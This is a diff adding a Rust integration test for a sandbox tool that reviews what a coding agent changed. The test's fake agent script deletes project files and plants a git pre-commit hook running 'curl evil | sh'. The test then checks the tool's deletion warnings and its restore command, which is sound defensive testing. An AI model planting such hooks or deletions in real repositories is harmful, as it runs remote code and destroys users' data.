@@ -282,3 +282,63 @@ fn run_with_fake_multipass_a_missing_agent_names_install_agents() {
         "{stderr}"
     );
 }
+
+#[test]
+fn run_with_fake_multipass_reviews_deletions_and_protected_paths_and_the_restore_works() {
+    let s = setup();
+    std::fs::create_dir_all(s.project.join(".git/hooks")).unwrap();
+    std::fs::write(s.project.join("big.dat"), vec![7u8; 4096]).unwrap();
+    // This agent deletes files and plants a git hook.
+    s.fake.install_agent(
+        "dev",
+        "codex",
+        "#!/bin/sh\nrm -f big.dat src/main.rs\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\n",
+    );
+    let out = s.run(
+        &s.project,
+        &[os("--auto-mount"), os("--disable-backups"), os("codex")],
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("1 added, 0 modified, 2 deleted"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("largest deletions: big.dat (4096 B), src/main.rs"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("WARNING: protected paths changed"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
+    let restore_line = stderr
+        .lines()
+        .find(|l| l.contains("to restore them: "))
+        .expect("a restore command");
+    let cmd = restore_line.split("to restore them: ").nth(1).unwrap();
+    let words = shell_words::split(cmd).unwrap();
+    assert_eq!(&words[..2], ["agsekit", "restore"]);
+    // Run exactly the printed command: the planted hook goes away (.git/hooks goes back to
+    // its state before the session; --delete-new is in the command for the added file).
+    assert!(words.iter().any(|w| w == "--delete-new"), "{cmd}");
+    let mut restore = s.sb.agsekit_with(&s.fake);
+    restore
+        .arg("--config")
+        .arg(&s.config)
+        .args(&words[1..])
+        .current_dir(&s.project);
+    let done = restore.output().unwrap();
+    assert!(
+        done.status.success(),
+        "{}",
+        String::from_utf8_lossy(&done.stderr)
+    );
+    assert!(!s.project.join(".git/hooks/pre-commit").exists());
+}
